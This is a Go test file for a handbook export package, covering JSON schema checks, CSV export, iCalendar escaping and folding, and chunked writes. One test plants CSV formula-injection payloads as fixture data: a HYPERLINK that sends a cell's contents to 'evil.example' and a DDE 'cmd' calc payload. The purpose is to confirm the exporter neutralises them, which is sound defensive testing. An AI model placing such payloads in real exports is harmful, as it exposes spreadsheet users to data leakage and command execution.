package export

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/emersion/go-ical"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/reliability-council/handbook/internal/gensite"
	"github.com/reliability-council/handbook/internal/history"
	"github.com/reliability-council/handbook/internal/load"
	"github.com/reliability-council/handbook/internal/model"
	"github.com/reliability-council/handbook/internal/resolve"
)

// sites are the handbooks the exports are read back from: the example at
// the root of the repository and the fixture site of internal/build,
// whose content tries to break out of every format.
var sites = map[string]string{
	"example": filepath.Join("..", ".."),
	"fixture": filepath.Join("..", "build", "testdata", "site"),
}

var day = time.Date(2019, 1, 1, 0, 0, 0, 0, time.UTC)

// largeSite is a generated handbook with concerns enough to be written in
// several batches (concernBatch), and handbook.json long enough to be
// handed on in several pieces (spillAt): the JSON and CSV tests read it
// back too.
func largeSite(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	opts := gensite.Options{Concerns: 2*concernBatch + 7, Meetings: 40, Teams: 6, Seed: 3}
	if err := gensite.WriteFiles(dir, gensite.Generate(opts).HandbookFiles()); err != nil {
		t.Fatal(err)
	}
	return dir
}

// withLarge is sites and a large generated one.
func withLarge(t *testing.T) map[string]string {
	all := maps.Clone(sites)
	all["large"] = largeSite(t)
	return all
}

func handbook(t *testing.T, dir string) *model.Handbook {
	t.Helper()
	src, err := load.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	src.History = history.Read(dir) // the example's, from this repository: the concerns' history is exported too
	h, err := resolve.Resolve(src, day)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// pieces keeps what a file's writer hands on, and counts the writes.
type pieces struct {
	bytes.Buffer
	writes int
}

func (p *pieces) Write(b []byte) (int, error) {
	p.writes++
	return p.Buffer.Write(b)
}

// written returns what write writes.
func written(t *testing.T, write func(io.Writer) error) []byte {
	t.Helper()
	var p pieces
	if err := write(&p); err != nil {
		t.Fatal(err)
	}
	return p.Bytes()
}

// failing takes n bytes, then fails every write.
type failing struct{ n int }

var errFull = errors.New("disk full")

func (f *failing) Write(b []byte) (int, error) {
	if len(b) > f.n {
		n := f.n
		f.n = 0
		return n, errFull
	}
	f.n -= len(b)
	return len(b), nil
}

// TestFilesAreWrittenInPieces wants handbook.json handed on a piece at a
// time, never much more than spillAt, and every file to stop at and
// return the first error of what it writes to.
func TestFilesAreWrittenInPieces(t *testing.T) {
	e := export(handbook(t, largeSite(t)))
	var p pieces
	if err := e.WriteJSON(&p); err != nil {
		t.Fatal(err)
	}
	if p.writes < 3 || p.Len() > p.writes*2*spillAt {
		t.Errorf("handbook.json (%d bytes) handed on in %d writes, want pieces of about %d bytes", p.Len(), p.writes, spillAt)
	}
	if !json.Valid(p.Bytes()) {
		t.Error("handbook.json handed on in pieces is not JSON")
	}
	for path, write := range e.Files() {
		if err := write(&failing{n: 100}); !errors.Is(err, errFull) {
			t.Errorf("%s: writing into a full disk returned %v, want its error", path, err)
		}
	}
}

func export(h *model.Handbook) *Export {
	return New(h, func(v any) string {
		switch x := v.(type) {
		case *model.Concern:
			return h.Config.BaseURL + "concerns/" + x.Slug + "/"
		case *model.Team:
			return h.Config.BaseURL + "teams/" + x.Slug + "/"
		case *model.Meeting:
			return h.Config.BaseURL + "meetings/" + x.Slug + "/"
		}
		return ""
	})
}

// TestJSONMatchesSchema validates handbook.json against
// handbook.schema.json, which allows no field it does not describe, and
// checks that the file holds every piece of the handbook.
func TestJSONMatchesSchema(t *testing.T) {
	schema := compileSchema(t)
	for name, dir := range withLarge(t) {
		t.Run(name, func(t *testing.T) {
			h := handbook(t, dir)
			data := written(t, export(h).WriteJSON)
			doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
			if err != nil {
				t.Fatalf("handbook.json is not JSON: %v", err)
			}
			if err := schema.Validate(doc); err != nil {
				t.Fatalf("handbook.json does not match its schema: %v", err)
			}
			var got struct {
				Version  int
				Concerns []struct{ Slug, Title string }
				Teams    []struct{ Slug string }
				Meetings []struct{ Slug string }
				Actions  []struct{ ID, Task string }
			}
			if err := json.Unmarshal(data, &got); err != nil {
				t.Fatal(err)
			}
			if got.Version != Version || len(got.Concerns) != len(h.Concerns) || len(got.Teams) != len(h.Teams) ||
				len(got.Meetings) != len(h.Meetings) || len(got.Actions) != len(h.Actions) {
				t.Errorf("version %d with %d concerns, %d teams, %d meetings, %d actions; want version %d and %d, %d, %d, %d",
					got.Version, len(got.Concerns), len(got.Teams), len(got.Meetings), len(got.Actions),
					Version, len(h.Concerns), len(h.Teams), len(h.Meetings), len(h.Actions))
			}
			for i, c := range h.Concerns {
				if i < len(got.Concerns) && (got.Concerns[i].Slug != c.Slug || got.Concerns[i].Title != c.Title) {
					t.Errorf("concern %d is %+v, want %s %q", i, got.Concerns[i], c.Slug, c.Title)
				}
			}
		})
	}
}

// TestSchemaCatchesWrongData shows that the schema is strict: a field it
// does not know, or one missing, fails the validation.
func TestSchemaCatchesWrongData(t *testing.T) {
	schema := compileSchema(t)
	data := written(t, export(handbook(t, sites["example"])).WriteJSON)
	for name, change := range map[string]func(map[string]any){
		"unknown field":                   func(m map[string]any) { m["concerns"].([]any)[0].(map[string]any)["colour"] = "red" },
		"missing field":                   func(m map[string]any) { delete(m["concerns"].([]any)[0].(map[string]any), "priority") },
		"wrong type":                      func(m map[string]any) { m["concerns"].([]any)[0].(map[string]any)["open"] = "yes" },
		"history item without its fields": func(m map[string]any) { m["concerns"].([]any)[0].(map[string]any)["history"] = []any{map[string]any{}} },
	} {
		var m map[string]any
		if err := json.Unmarshal(data, &m); err != nil {
			t.Fatal(err)
		}
		change(m)
		changed, _ := json.Marshal(m)
		doc, _ := jsonschema.UnmarshalJSON(bytes.NewReader(changed))
		if schema.Validate(doc) == nil {
			t.Errorf("%s: the schema accepts it", name)
		}
	}
}

func compileSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(written(t, WriteSchema)))
	if err != nil {
		t.Fatalf("handbook.schema.json is not JSON: %v", err)
	}
	c := jsonschema.NewCompiler()
	if err := c.AddResource(SchemaFile, doc); err != nil {
		t.Fatal(err)
	}
	s, err := c.Compile(SchemaFile)
	if err != nil {
		t.Fatalf("handbook.schema.json is not a JSON Schema: %v", err)
	}
	return s
}

// TestDocsDescribeEveryField checks that docs/data.md names every field
// of the schema and every column of the CSV files.
func TestDocsDescribeEveryField(t *testing.T) {
	doc, err := os.ReadFile(filepath.Join("..", "..", "docs", "data.md"))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			if props, ok := x["properties"].(map[string]any); ok {
				for name := range props {
					names = append(names, name)
				}
			}
			for _, child := range x {
				walk(child)
			}
		case []any:
			for _, child := range x {
				walk(child)
			}
		}
	}
	var schema any
	if err := json.Unmarshal(written(t, WriteSchema), &schema); err != nil {
		t.Fatal(err)
	}
	walk(schema)
	for _, c := range concernColumns {
		names = append(names, c.name)
	}
	for _, c := range actionColumns {
		names = append(names, c.name)
	}
	slices.Sort(names)
	for _, name := range slices.Compact(names) {
		if !strings.Contains(string(doc), "`"+name+"`") {
			t.Errorf("docs/data.md does not describe `%s`", name)
		}
	}
}

func TestCSV(t *testing.T) {
	for name, dir := range withLarge(t) {
		t.Run(name, func(t *testing.T) {
			h := handbook(t, dir)
			e := export(h)
			concerns := readCSV(t, written(t, e.WriteConcernsCSV), concernColumns)
			if len(concerns) != len(h.Concerns) {
				t.Fatalf("concerns.csv has %d rows, want %d", len(concerns), len(h.Concerns))
			}
			for i, c := range h.Concerns {
				row := concerns[i]
				if row["slug"] != c.Slug || unquote(row["title"]) != c.Title || unquote(row["owner"]) != c.Owner || row["url"] == "" {
					t.Errorf("row %d: %v, want the concern %s", i+1, row, c.Slug)
				}
			}
			actions := readCSV(t, written(t, e.WriteActionsCSV), actionColumns)
			if len(actions) != len(h.Actions) {
				t.Fatalf("actions.csv has %d rows, want %d", len(actions), len(h.Actions))
			}
			for i, a := range h.Actions {
				if unquote(actions[i]["task"]) != a.Task || actions[i]["meeting"] != a.Meeting.Slug {
					t.Errorf("action row %d: %v, want %q of %s", i+1, actions[i], a.Task, a.Meeting.Slug)
				}
			}
		})
	}
}

// unquote takes off the ' that keeps a cell from being a formula.
func unquote(cell string) string {
	if len(cell) > 1 && cell[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(cell[1])) {
		return cell[1:]
	}
	return cell
}

// readCSV parses a CSV file as RFC 4180 has it, and returns its rows by
// column name.
func readCSV[T any](t *testing.T, data []byte, columns []column[T]) []map[string]string {
	t.Helper()
	if !utf8.Valid(data) {
		t.Error("not UTF-8")
	}
	if bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
		t.Error("starts with a byte order mark")
	}
	if !bytes.HasSuffix(data, []byte("\r\n")) || bytes.Count(data, []byte("\n")) != bytes.Count(data, []byte("\r\n")) {
		t.Error("a line ends without CRLF")
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = len(columns)
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	for i, c := range columns {
		if records[0][i] != c.name {
			t.Errorf("column %d is %q, want %q", i+1, records[0][i], c.name)
		}
	}
	var rows []map[string]string
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, c := range columns {
			row[c.name] = rec[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// TestCSVIsSafeInSpreadsheets writes concerns whose every text starts
// like a formula, and checks that no cell does.
func TestCSVIsSafeInSpreadsheets(t *testing.T) {
	h := handbook(t, sites["fixture"])
	for i, start := range []string{"=", "+", "-", "@", "\t", "\r"} {
		c := h.Concerns[i%len(h.Concerns)]
		c.Title = start + `HYPERLINK("https://evil.example/?"&A1,"Click")`
		c.Owner = start + "cmd|' /C calc'!A0"
		h.Actions[i%len(h.Actions)].Task = start + "1+1"
	}
	e := export(h)
	for name, data := range map[string][]byte{"concerns.csv": written(t, e.WriteConcernsCSV), "actions.csv": written(t, e.WriteActionsCSV)} {
		records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, rec := range records {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: the cell %q would run as a formula", name, cell)
				}
			}
		}
	}
}

func TestCalendar(t *testing.T) {
	for name, dir := range sites {
		t.Run(name, func(t *testing.T) {
			h := handbook(t, dir)
			data := written(t, export(h).WriteCalendar)
			checkContentLines(t, data)
			cal, err := ical.NewDecoder(bytes.NewReader(data)).Decode()
			if err != nil {
				t.Fatalf("actions.ics does not parse: %v", err)
			}
			// Encoding it again checks the properties each component must
			// have once, and may have at most once.
			if err := ical.NewEncoder(&bytes.Buffer{}).Encode(cal); err != nil {
				t.Errorf("actions.ics breaks a rule of RFC 5545: %v", err)
			}
			var due []*model.Action
			for _, a := range h.Actions {
				if !a.Due.IsZero() {
					due = append(due, a)
				}
			}
			events := cal.Events()
			if len(events) != len(due) {
				t.Fatalf("%d events, want one for each of the %d action items with a due date", len(events), len(due))
			}
			uids := map[string]bool{}
			for i, ev := range events {
				a := due[i]
				uid := ev.Props.Get(ical.PropUID).Value
				if uids[uid] {
					t.Errorf("UID %s is given twice", uid)
				}
				uids[uid] = true
				start := ev.Props.Get(ical.PropDateTimeStart)
				if start.ValueType() != ical.ValueDate {
					t.Errorf("%s: DTSTART is a %s, want a DATE for an all-day event", uid, start.ValueType())
				}
				if d, err := ev.DateTimeStart(time.UTC); err != nil || !d.Equal(a.Due) {
					t.Errorf("%s: starts %v (%v), want the due date %v", uid, d, err, a.Due)
				}
				if stamp, err := ev.Props.DateTime(ical.PropDateTimeStamp, time.UTC); err != nil || !stamp.Equal(h.Today) {
					t.Errorf("%s: DTSTAMP %v (%v), want the build date %v", uid, stamp, err, h.Today)
				}
				summary, err := ev.Props.Text(ical.PropSummary)
				if err != nil || !strings.HasSuffix(summary, a.Task) {
					t.Errorf("%s: summary %q (%v), want the task %q", uid, summary, err, a.Task)
				}
				if _, err := ev.Props.URI(ical.PropURL); err != nil {
					t.Errorf("%s: URL: %v", uid, err)
				}
			}
		})
	}
}

// TestCalendarUIDsAreStable checks that an action item keeps its UID when
// its text, owner and due date change and when items are added after it.
func TestCalendarUIDsAreStable(t *testing.T) {
	h := handbook(t, sites["example"])
	before := uids(t, written(t, export(h).WriteCalendar))
	for _, a := range h.Actions {
		a.Task += ", and more"
		a.Owner = "Someone Else"
		a.Due = a.Due.AddDate(0, 0, 1)
	}
	m := h.Meetings[0]
	extra := &model.Action{Task: "A new one", Due: day, Meeting: m}
	m.Actions = append(m.Actions, extra)
	h.Actions = append([]*model.Action{extra}, h.Actions...)
	after := uids(t, written(t, export(h).WriteCalendar))
	for task, uid := range before {
		if after[task+", and more"] != uid {
			t.Errorf("%q had the UID %s, then %s", task, uid, after[task+", and more"])
		}
	}
}

func uids(t *testing.T, data []byte) map[string]string {
	t.Helper()
	cal, err := ical.NewDecoder(bytes.NewReader(data)).Decode()
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, ev := range cal.Events() {
		summary, _ := ev.Props.Text(ical.PropSummary)
		out[strings.TrimPrefix(summary, "Done: ")] = ev.Props.Get(ical.PropUID).Value
	}
	return out
}

// TestCalendarEscapesAndFolds writes tasks that need escaping and folding
// and reads them back.
func TestCalendarEscapesAndFolds(t *testing.T) {
	h := handbook(t, sites["fixture"])
	tasks := []string{
		`Commas, semicolons; and \ backslashes`,
		"Two\nlines",
		strings.Repeat("Überwachung für Zürich, 東京 und Москва ", 6),
	}
	var dated []*model.Action
	for _, a := range h.Actions {
		if !a.Due.IsZero() && !a.Done {
			dated = append(dated, a)
		}
	}
	for i, task := range tasks {
		dated[i%len(dated)].Task = task
	}
	data := written(t, export(h).WriteCalendar)
	checkContentLines(t, data)
	cal, err := ical.NewDecoder(bytes.NewReader(data)).Decode()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, ev := range cal.Events() {
		s, err := ev.Props.Text(ical.PropSummary)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, s)
	}
	for _, task := range tasks[max(0, len(tasks)-len(dated)):] {
		if !slices.Contains(got, task) {
			t.Errorf("the summary %q does not read back; got %q", task, got)
		}
	}
}

// checkContentLines checks the form of every line of an iCalendar file:
// CRLF after each, at most 75 octets, a folded line broken between
// characters and going on with a space.
func checkContentLines(t *testing.T, data []byte) {
	t.Helper()
	if !bytes.HasSuffix(data, []byte("\r\n")) {
		t.Error("the file does not end with CRLF")
	}
	lines := strings.Split(strings.TrimSuffix(string(data), "\r\n"), "\r\n")
	for i, line := range lines {
		switch {
		case strings.ContainsAny(line, "\r\n"):
			t.Errorf("line %d holds a bare CR or LF: %q", i+1, line)
		case len(line) > 75:
			t.Errorf("line %d is %d octets long: %q", i+1, len(line), line)
		case !utf8.ValidString(line):
			t.Errorf("line %d breaks a character in two: %q", i+1, line)
		case i > 0 && strings.HasPrefix(line, " ") && len(lines[i-1]) < 70:
			t.Errorf("line %d goes on a line that was folded early: %q", i, lines[i-1])
		}
	}
	if !regexp.MustCompile(`^BEGIN:VCALENDAR\r\n`).Match(data) || !bytes.HasSuffix(data, []byte("END:VCALENDAR\r\n")) {
		t.Error("not one VCALENDAR")
	}
}

// TestCalendarFoldsBytesThatStartNoCharacter wants a line that is not
// UTF-8, which no content file is, folded all the same rather than without
// end.
func TestCalendarFoldsBytesThatStartNoCharacter(t *testing.T) {
	var out bytes.Buffer
	c := calendar{w: bufio.NewWriter(&out)}
	c.start("SUMMARY")
	c.buf = append(c.buf, bytes.Repeat([]byte{0xa4}, 200)...)
	c.end()
	_ = c.w.Flush()
	text := strings.TrimSuffix(out.String(), "\r\n")
	for _, l := range strings.Split(text, "\r\n") {
		if len(l) > maxLineOctets {
			t.Errorf("a line of %d octets", len(l))
		}
	}
	if want := "SUMMARY:" + strings.Repeat("\xa4", 200); strings.ReplaceAll(text, "\r\n ", "") != want {
		t.Errorf("the lines unfold to %q, want %q", strings.ReplaceAll(text, "\r\n ", ""), want)
	}
}
